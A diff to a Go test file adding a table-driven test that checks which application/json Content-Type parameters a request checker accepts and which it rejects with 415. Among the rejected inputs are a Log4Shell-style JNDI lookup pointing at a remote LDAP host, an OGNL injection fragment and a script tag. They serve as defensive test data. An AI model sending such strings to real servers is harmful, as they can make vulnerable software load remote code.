@@ -161,6 +161,31 @@ func TestFieldsOfAnyNamePass(t *testing.T) {
 	}
 }
 
+// RFC 9110, 8.3.1: parameters, quoted or not. A charset that is another alphabet than ASCII's, and what is no parameter, is turned away as no JSON.
+func TestParametersOfJSON(t *testing.T) {
+	for contentType, status := range map[string]int{
+		"application/json;charset=UTF-8": 0, `Application/JSON; Charset="utf-8"`: 0, "application/json; charset=utf8": 0, "application/json;": 0, "application/json ; charset=us-ascii": 0,
+		"application/json; charset=ISO-8859-1": 0, "application/json; odata.metadata=minimal;IEEE754Compatible=true": 0, `application/json; profile="https://example.com/a b"`: 0,
+		"application/json; version=1.2;": 0, "application/json; boundary=----a": 0,
+		"application/json; charset=utf-16": 415, "application/json; charset=utf-7": 415, "application/json; charset=utf-8; charset=ibm037": 415, `application/json; charset="utf-16le"`: 415,
+		"application/json; x": 415, "application/json; x=<script>": 415, "application/json; x=%{(#_='multipart/form-data')}": 415, "application/json; x=${jndi:ldap://203.0.113.9/a}": 415,
+		"application/json, text/plain": 415, "application/json text/plain": 415, "application/json+x": 415, "text/json": 415, "": 415,
+	} {
+		r := with(func(r *request) { r.headers["content-type"] = contentType })
+		refused, err := shared.check(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := 0
+		if refused != nil {
+			got = refused.status
+		}
+		if got != status {
+			t.Errorf("%s: %d, want %d%v", contentType, got, status, reasons(refused))
+		}
+	}
+}
+
 func TestOddTextsOfOneRequestPass(t *testing.T) {
 	random := rand.New(rand.NewPCG(2, 2))
 	for range 200 {
